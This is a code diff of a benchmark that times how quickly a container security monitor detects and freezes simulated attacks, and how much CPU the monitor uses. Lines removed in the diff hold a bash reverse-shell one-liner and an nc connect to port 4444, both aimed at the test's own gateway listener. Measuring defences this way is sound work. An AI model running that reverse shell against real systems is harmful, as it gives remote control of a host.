@@ -1,8 +1,9 @@
-// Containment latency of the host monitor: from the attacking syscall to Incus reporting the
-// container frozen or stopped, for a network critical (connect to port 4444, seen in the kernel
-// log) and a process critical (bash reverse shell, seen by the process scanner), beside the raw
-// freeze API call measured in the same run. Then the daemon's CPU with 10 idle monitored
-// containers, and how many kernel-log lines per second the parser and classifier handle.
+// Containment of the attack corpus (test/integration/security/attack-corpus-table.ts) by the host
+// monitor, per class: detection rate and p50/p95 from the attack's first action to Incus reporting
+// the container frozen or stopped (see _containment-trials.ts), beside the raw freeze API call
+// measured in the same run. Then the daemon's CPU with 10 idle monitored containers and while one
+// runs a 500-process test suite, and how many kernel-log lines per second the parser and
+// classifier handle. COI_BENCH_TRIALS sets the trials per class (default 20).
 // Needs root and the coi host set-up; containers are named coi-test-bench-… and deleted at the end.
 import { mkdtempSync, rmSync } from 'node:fs';
 import { createServer, type Server, type Socket } from 'node:net';
@@ -14,33 +15,35 @@ import { forceDelete } from '../src/core/container/force-delete.js';
 import { containerName } from '../src/shared/naming.js';
 import { Incus, IncusNotFoundError, eventInstance, isLifecycle } from '../src/incus/index.js';
 import { classifyNetworkEvent } from '../src/security/detectors/network.js';
+import { DEFAULT_RESOLVER_PORT } from '../src/security/dns/index.js';
+import { readAudit } from '../src/security/audit/tail.js';
+import { IO_BOOT_GRACE_MS } from '../src/security/monitor/container-watch.js';
 import { MonitorDaemon } from '../src/security/monitor/daemon.js';
 import { defaultHostNetwork } from '../src/core/session/network.js';
 import { monitorSettings } from '../src/core/policy/monitor-settings.js';
 import { NetworkGuard, withFreeAddress } from '../src/security/network/index.js';
-import { EMPTY_ALLOWLIST, logPrefix, type NetworkPolicy } from '../src/security/nft/index.js';
+import { logPrefix, type NetworkPolicy } from '../src/security/nft/index.js';
 import { parseKmsgRecord, parseNftLog } from '../src/security/sources/kmsg-parse.js';
-import { readText } from '../src/security/sources/proc-read.js';
 import { baseImageAlias } from '../src/core/image/recipe.js';
+import {
+  CORPUS_RESTRICTED,
+  policyFor,
+  startCorpusResolver,
+} from '../test/helpers/attack-runner.js';
+import { needsDefaultImage } from '../test/integration/security/attack-corpus-table.js';
+import { STAMP_DIR, corpusClasses, runClass, type ClassResult } from './_containment-trials.js';
 
 const PREFIX = `coi-test-bench${process.pid.toString(16)}-`;
-const TRIALS = 20;
+const TRIALS = Number(process.env.COI_BENCH_TRIALS ?? 20);
 const IDLE_CONTAINERS = 10;
 const CPU_WINDOW_MS = 60_000;
-const ATTACK_PORT = 4444;
 const LOCK_DIR = '/tmp/coi-test-address-locks';
-
-const RESTRICTED: NetworkPolicy = {
-  mode: 'restricted',
-  allowlist: EMPTY_ALLOWLIST,
-  allowLocalNetworkAccess: false,
-  blockPrivateNetworks: true,
-  blockMetadataEndpoint: true,
-  logging: { ratePerSecond: 100, connections: false, dnsQueries: false },
-};
+/** coi-default (node, full python3), made by the coi build test; else the base image. */
+const DEFAULT_IMAGE = 'coi-test-default';
 
 const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 const ms = (from: bigint, to: bigint) => Number(to - from) / 1e6;
+const wallMs = () => performance.timeOrigin + performance.now();
 
 function percentile(values: number[], p: number): number {
   const sorted = [...values].sort((a, b) => a - b);
@@ -53,54 +56,36 @@ function summary(label: string, values: number[]): string {
   return `${label.padEnd(44)} n=${String(values.length).padStart(2)}  p50 ${f(percentile(values, 50))} ms  p95 ${f(percentile(values, 95))} ms  max ${f(Math.max(...values))} ms`;
 }
 
-/**
- * Whether the kernel has the container's processes stopped: frozen (cgroup v1 freezer or v2
- * cgroup.freeze) or its cgroup gone. Incus may report a freeze up to a second later: liblxc polls
- * the v1 freezer state once a second while it reads FREEZING.
- */
-function kernelContained(name: string): boolean {
-  const v1 = readText(`/sys/fs/cgroup/freezer/lxc.payload.${name}/freezer.state`);
-  if (v1 !== undefined) return v1.startsWith('FROZEN');
-  const v2 = readText(`/sys/fs/cgroup/lxc.payload.${name}/cgroup.events`);
-  return v2 === undefined || /^frozen 1$/m.test(v2);
+function classTable(results: ClassResult[]): string[] {
+  const f = (values: number[], p: number) =>
+    values.length ? percentile(values, p).toFixed(1).padStart(8) : '       -';
+  const lines = [
+    `${'class'.padEnd(18)} ${'until'.padEnd(9)} ${'detected'.padStart(9)} ${'rate'.padStart(6)} ${'p50 ms'.padStart(8)} ${'p95 ms'.padStart(8)}  missed rows`,
+  ];
+  for (const r of results)
+    lines.push(
+      `${r.cls.padEnd(18)} ${r.until.padEnd(9)} ${`${r.contained}/${r.trials}`.padStart(9)} ` +
+        `${((r.contained / Math.max(1, r.trials)) * 100).toFixed(0).padStart(5)}% ` +
+        `${f(r.latencies, 50)} ${f(r.latencies, 95)}  ${[...new Set(r.missedRows)].join(', ')}`,
+    );
+  return lines;
 }
 
-/** The attacker's listener on the gateway: the accept time is when the attacking connect() ran. */
-class Listener {
-  private server?: Server;
-  private readonly sockets: Socket[] = [];
-  private waiter?: (at: bigint) => void;
-
-  async open(address: string): Promise<void> {
-    this.server = createServer((socket) => {
-      const at = process.hrtime.bigint();
-      this.sockets.push(socket);
-      socket.on('error', () => undefined);
-      this.waiter?.(at);
-    });
-    await new Promise<void>((resolve, reject) => {
-      this.server!.once('error', reject);
-      this.server!.listen(ATTACK_PORT, address, resolve);
-    });
-  }
-
-  nextAccept(timeoutMs: number): Promise<bigint | undefined> {
-    return new Promise((resolve) => {
-      const timer = setTimeout(() => resolve(undefined), timeoutMs);
-      this.waiter = (at) => {
-        clearTimeout(timer);
-        this.waiter = undefined;
-        resolve(at);
-      };
-    });
-  }
-
-  async close(): Promise<void> {
-    for (const s of this.sockets) s.destroy();
-    await new Promise<void>((resolve) =>
-      this.server ? this.server.close(() => resolve()) : resolve(),
-    );
-  }
+/** The attacker's listener on the gateway; it keeps every connection. */
+async function listen(
+  address: string,
+  port: number,
+): Promise<{ server: Server; sockets: Socket[] }> {
+  const sockets: Socket[] = [];
+  const server = createServer((socket) => {
+    sockets.push(socket);
+    socket.on('error', () => undefined);
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once('error', reject);
+    server.listen(port, address, resolve);
+  });
+  return { server, sockets };
 }
 
 export async function run(): Promise<void> {
@@ -109,12 +94,16 @@ export async function run(): Promise<void> {
   const home = mkdtempSync(join(tmpdir(), 'coi-bench-monitor-'));
   const host = await defaultHostNetwork(incus);
   if (!host) throw new Error('the default profile has no bridged eth0: run `coi setup` first');
-  const guard = new NetworkGuard(host);
-  const image = baseImageAlias();
+  const guard = new NetworkGuard({
+    ...host,
+    resolver: { address: host.gateway, port: DEFAULT_RESOLVER_PORT },
+  });
+  const hasDefault = (await incus.images.findByAlias(DEFAULT_IMAGE)) !== undefined;
+  const image = hasDefault ? DEFAULT_IMAGE : baseImageAlias();
   const created = new Set<string>();
   const { config } = loadConfig({ cwd: home, home, env: {} });
   const settings = monitorSettings(config);
-  // The copy is made after containment; leaving it out keeps 40 kills quick.
+  // The copy is made after containment; leaving it out keeps hundreds of kills quick.
   settings.forensicsOnKill = false;
   const daemon = new MonitorDaemon({
     incus: daemonIncus,
@@ -124,22 +113,30 @@ export async function run(): Promise<void> {
     network: true,
     releaseNetwork: (ip) => guard.release(ip),
   });
-  const contained = new Map<string, bigint>();
+  const contained = new Map<string, number>();
   await incus.connect();
   incus.events.subscribe((event) => {
     if (!isLifecycle(event, 'instance-paused', 'instance-stopped')) return;
     const name = eventInstance(event);
-    if (name && !contained.has(name)) contained.set(name, process.hrtime.bigint());
+    if (name && !contained.has(name)) contained.set(name, wallMs());
   });
-  const listener = new Listener();
-  await listener.open(host.gateway);
+  const port = 40_000 + Math.floor(Math.random() * 10_000);
+  const listener = await listen(host.gateway, port);
+  const resolver = await startCorpusResolver(host.gateway, guard, daemon);
 
-  const launch = async (name: string, pinned: boolean): Promise<void> => {
+  const launch = async (
+    name: string,
+    opts: { policy?: NetworkPolicy; stampDir?: string } = {},
+  ): Promise<void> => {
     created.add(name);
-    if (!pinned) {
+    const stamp: Record<string, Record<string, string>> = opts.stampDir
+      ? { stamp: { type: 'disk', source: opts.stampDir, path: STAMP_DIR } }
+      : {};
+    if (!opts.policy) {
       await (await incus.instances.create({ name, image: { alias: image }, start: true })).wait();
       return;
     }
+    const policy = opts.policy;
     const ip = await withFreeAddress(incus, host.bridge, LOCK_DIR, async (ip) => {
       await (
         await incus.instances.create({
@@ -153,12 +150,13 @@ export async function run(): Promise<void> {
               'ipv4.address': ip,
               'security.ipv4_filtering': 'true',
             },
+            ...stamp,
           },
         })
       ).wait();
       return ip;
     });
-    await guard.prepare(name, ip, RESTRICTED);
+    await guard.prepare(name, ip, policy);
     await guard.apply(ip);
     await (await incus.instances.start(name)).wait();
   };
@@ -170,12 +168,14 @@ export async function run(): Promise<void> {
       if (!(err instanceof IncusNotFoundError)) throw err;
     }
     created.delete(name);
+    contained.delete(name);
   };
-  const ready = async (name: string) => {
+  const ready = async (name: string): Promise<string> => {
     await daemon.watchOf(name, 30_000);
     for (let i = 0; i < 300; i++) {
       const r = await incus.exec.run(name, ['sh', '-c', 'ip -4 -o addr show dev eth0']);
-      if (r.stdout.toString().includes('inet ')) return;
+      const ip = /inet (\d+\.\d+\.\d+\.\d+)\//.exec(r.stdout.toString())?.[1];
+      if (ip) return ip;
       await sleep(100);
     }
     throw new Error(`${name} got no address`);
@@ -186,7 +186,7 @@ export async function run(): Promise<void> {
 
     // Raw freeze API call on an idle container the monitor ignores.
     const freezeName = `${PREFIX}freeze`;
-    await launch(freezeName, false);
+    await launch(freezeName);
     const freezeTimes: number[] = [];
     for (let i = 0; i < TRIALS; i++) {
       const t0 = process.hrtime.bigint();
@@ -196,92 +196,111 @@ export async function run(): Promise<void> {
     }
     await remove(freezeName);
 
-    const trial = async (kind: 'network' | 'process', attempt: number) => {
-      const name = containerName(`/bench/${kind}/${attempt}`, 1, PREFIX);
-      return { name, prepare: () => launch(name, true).then(() => ready(name)) };
-    };
-    const results: Record<'network' | 'process', number[]> = { network: [], process: [] };
-    const kernel: Record<'network' | 'process', number[]> = { network: [], process: [] };
-    const fallbacks: Record<'network' | 'process', number> = { network: 0, process: 0 };
-    for (const kind of ['network', 'process'] as const) {
-      console.log(`  ${kind} trials…`);
-      for (let batch = 0; batch < TRIALS; batch += 5) {
-        const trials = await Promise.all(
-          Array.from({ length: Math.min(5, TRIALS - batch) }, (_, i) => trial(kind, batch + i)),
-        );
-        await Promise.all(trials.map((t) => t.prepare()));
-        for (const t of trials) {
-          const command =
-            kind === 'network'
-              ? ['nc', '-z', '-w', '2', host.gateway, String(ATTACK_PORT)]
-              : ['bash', '-c', `bash -i >& /dev/tcp/${host.gateway}/${ATTACK_PORT} 0>&1`];
-          const accepted = listener.nextAccept(2000);
-          const issued = process.hrtime.bigint();
-          void incus.exec.run(t.name, command).catch(() => undefined);
-          const deadline = Date.now() + 10_000;
-          let frozenAt: bigint | undefined;
-          const poll = setInterval(() => {
-            frozenAt ??= kernelContained(t.name) ? process.hrtime.bigint() : undefined;
-          }, 1);
-          while (!contained.has(t.name) && Date.now() < deadline) await sleep(5);
-          clearInterval(poll);
-          const start = (await accepted) ?? issued;
-          if (start === issued) fallbacks[kind] += 1;
-          const end = contained.get(t.name);
-          if (end !== undefined) results[kind].push(ms(start, end));
-          else console.log(`  ${t.name}: not contained within 10 s`);
-          if (frozenAt !== undefined) kernel[kind].push(ms(start, frozenAt));
-          // The responder deletes it; racing it with our own delete would fight over its state.
-          for (let i = 0; i < 300 && (await incus.instances.exists(t.name)); i++) await sleep(100);
-          await remove(t.name);
-        }
-      }
+    const siblingName = containerName('/bench/sibling', 1, PREFIX);
+    await launch(siblingName, { policy: CORPUS_RESTRICTED });
+    const sibling = await ready(siblingName);
+    const results: ClassResult[] = [];
+    for (const cls of corpusClasses()) {
+      results.push(
+        await runClass(
+          {
+            incus,
+            daemon,
+            auditDir: join(home, '.coi', 'audit'),
+            target: { gateway: host.gateway, port, sibling },
+            launch: async (name, row, stampDir) => {
+              await launch(name, { policy: policyFor(row.setup), stampDir });
+              await ready(name);
+            },
+            remove,
+            contained,
+            nameOf: (c, n) => containerName(`/bench/${c}/${n}`, 1, PREFIX),
+            // The daemon's default: ten containers booting at once on two cores need it.
+            ioGraceMs: IO_BOOT_GRACE_MS,
+            canRun: (row) => hasDefault || !needsDefaultImage(row),
+          },
+          cls,
+          TRIALS,
+        ),
+      );
+      // As it goes, so a cut-short run still shows the classes it finished.
+      console.log(`  ${classTable(results.slice(-1))[1]}`);
     }
+    await remove(siblingName);
+    console.log(`image: ${image}; ${TRIALS} trials per class`);
+    for (const line of classTable(results)) console.log(line);
 
-    // CPU of the monitor (this process) with idle monitored containers.
+    // CPU of the monitor (this process) with idle monitored containers, then while one of them
+    // runs a test suite of 500 short processes.
     const idle = Array.from({ length: IDLE_CONTAINERS }, (_, i) =>
       containerName(`/bench/idle/${i}`, 1, PREFIX),
     );
-    await Promise.all(idle.map((n) => launch(n, false)));
+    await Promise.all(idle.map((n) => launch(n)));
     await Promise.all(idle.map((n) => daemon.watchOf(n, 30_000)));
-    await sleep(5000);
-    const before = {
-      cpu: process.cpuUsage(),
-      status: daemon.status(),
-      at: process.hrtime.bigint(),
-    };
-    await sleep(CPU_WINDOW_MS);
-    const cpu = process.cpuUsage(before.cpu);
-    const wall = ms(before.at, process.hrtime.bigint());
-    const after = daemon.status();
+    await sleep(IO_BOOT_GRACE_MS);
+    const idleCpu = await monitorCpu(daemon, async () => {
+      await sleep(CPU_WINDOW_MS);
+    });
+    const suiteCpu = await monitorCpu(daemon, async () => {
+      const r = await incus.exec.run(idle[0]!, [
+        'sh',
+        '-c',
+        'for round in 1 2 3 4 5; do seq 500 | xargs -P 4 -I{} sh -c "test {} -gt 0"; done',
+      ]);
+      if (r.exitCode !== 0) {
+        const alerts: string[] = [];
+        await readAudit(join(home, '.coi', 'audit'), idle[0]!, {
+          onRecord: (a) => alerts.push(`${a.level} ${a.title}: ${a.description}`),
+        });
+        console.log(`  the 500-process suite failed (${r.stderr.toString().trim()}); alerts:`);
+        for (const a of alerts) console.log(`    ${a}`);
+      }
+    });
     await Promise.all(idle.map((n) => remove(n)));
 
     console.log(summary('raw freeze API call (PUT state + wait)', freezeTimes));
-    console.log(summary('network critical: connect → Incus frozen/stopped', results.network));
-    console.log(summary('process critical: reverse shell → Incus frozen/stopped', results.process));
-    console.log(summary('network critical: connect → kernel frozen', kernel.network));
-    console.log(summary('process critical: reverse shell → kernel frozen', kernel.process));
-    for (const kind of ['network', 'process'] as const)
-      if (fallbacks[kind] > 0)
-        console.log(
-          `  (${kind}: ${fallbacks[kind]} trials timed from the exec request: no accept seen)`,
-        );
-    const cpuPercent = ((cpu.user + cpu.system) / 1000 / wall) * 100;
-    const scans = after.scans - before.status.scans;
     console.log(
-      `idle CPU, ${IDLE_CONTAINERS} monitored containers over ${Math.round(wall / 1000)} s: ` +
-        `${cpuPercent.toFixed(2)} % of one core (${scans} process scans, ` +
-        `${((after.scanBusyMs - before.status.scanBusyMs) / Math.max(1, scans)).toFixed(3)} ms each)`,
+      `idle CPU, ${IDLE_CONTAINERS} monitored containers over ${Math.round(idleCpu.wallMs / 1000)} s: ` +
+        `${idleCpu.percent.toFixed(2)} % of one core (${idleCpu.scans} process scans, ` +
+        `${idleCpu.msPerScan.toFixed(3)} ms each)`,
+    );
+    console.log(
+      `CPU while one of them runs 5 × 500 short processes (${Math.round(suiteCpu.wallMs / 1000)} s): ` +
+        `${suiteCpu.percent.toFixed(2)} % of one core (${suiteCpu.scans} process scans, ` +
+        `${suiteCpu.msPerScan.toFixed(3)} ms each)`,
     );
     console.log(`kernel-log lines classified: ${kmsgThroughput().toLocaleString('en')} per second`);
   } finally {
-    await listener.close();
+    for (const s of listener.sockets) s.destroy();
+    listener.server.close();
+    await resolver.stop();
     await daemon.stop();
     for (const name of [...created]) await remove(name);
     await daemonIncus.close();
     await incus.close();
     rmSync(home, { recursive: true, force: true });
   }
+}
+
+/** This process's CPU (the in-process daemon's, mostly) while `during` runs. */
+async function monitorCpu(
+  daemon: MonitorDaemon,
+  during: () => Promise<void>,
+): Promise<{ percent: number; wallMs: number; scans: number; msPerScan: number }> {
+  const cpu0 = process.cpuUsage();
+  const status0 = daemon.status();
+  const t0 = process.hrtime.bigint();
+  await during();
+  const cpu = process.cpuUsage(cpu0);
+  const wall = ms(t0, process.hrtime.bigint());
+  const status = daemon.status();
+  const scans = status.scans - status0.scans;
+  return {
+    percent: ((cpu.user + cpu.system) / 1000 / wall) * 100,
+    wallMs: wall,
+    scans,
+    msPerScan: (status.scanBusyMs - status0.scanBusyMs) / Math.max(1, scans),
+  };
 }
 
 /** Lines per second through the kmsg record parser, the nft log parser and the classifier. */
